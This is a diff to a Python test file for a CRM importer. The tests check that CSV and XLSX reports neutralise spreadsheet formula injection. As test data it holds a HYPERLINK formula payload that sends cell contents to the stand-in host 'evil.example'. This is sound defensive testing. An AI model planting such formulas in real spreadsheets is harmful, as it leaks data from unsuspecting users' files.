@@ -72,7 +72,7 @@ from tcpproxy import TcpProxy
 from crm_importer.cli import main
 from crm_importer.crm.connection import CrmError, connect
 from crm_importer.crm.demo import seed_demo_profiles
-from crm_importer.engine.report import FORMULA_STARTS
+from crm_importer.engine.report import is_formula
 
 
 def one_line(err: str) -> str:
@@ -121,7 +121,7 @@ def write_formula_xlsx(path: Path, header: list[str], rows: list[list[str]]) -> 
 
 
 def assert_neutral(cell: str, where: str) -> None:
-    assert not cell.startswith(FORMULA_STARTS), f"{where}: {cell!r} would run as a formula"
+    assert not is_formula(cell), f"{where}: {cell!r} would run as a formula"
 
 
 @pytest.mark.parametrize("source", ["csv", "xlsx"])
@@ -150,7 +150,7 @@ def test_import_reports_neutralise_formulas_in_headers_and_cells(pg_dsn: str, tm
         lines = list(csv.reader(f, delimiter=";" if source == "csv" else ","))
     expected_rows = len(PAYLOADS) + (1 if source == "xlsx" else 0) + 4  # invalid (+ formula row), in the CRM
     assert len(lines) == 1 + expected_rows
-    assert lines[0][2:] == ["'" + h if h.startswith(FORMULA_STARTS) else h for h in header]
+    assert lines[0][2:] == ["'" + h if is_formula(h) else h for h in header]
     originals = {tuple(r) for r in rows}
     for line in lines[1:]:
         for cell in line:
@@ -165,9 +165,12 @@ def test_import_reports_neutralise_formulas_in_headers_and_cells(pg_dsn: str, tm
         book.close()
     assert cells and all(cell.data_type != "f" for cell in cells)
     texts = [cell.value for cell in cells if isinstance(cell.value, str)]
-    for text in texts:
-        assert_neutral(unescape(text), "XLSX report")
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez ici\")" in texts
+    # XLSX: the value as the sender typed it, no apostrophe in it; Excel's quote prefix keeps it text.
+    for cell in cells:
+        if isinstance(cell.value, str) and is_formula(unescape(cell.value)):
+            assert cell.quotePrefix, f"XLSX report: {cell.value!r} without the quote prefix"
+    assert "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez ici\")" in texts
+    assert not any(text.startswith("'") for text in texts)
 
 
 # --- SQL injection ----------------------------------------------------------------------------------------
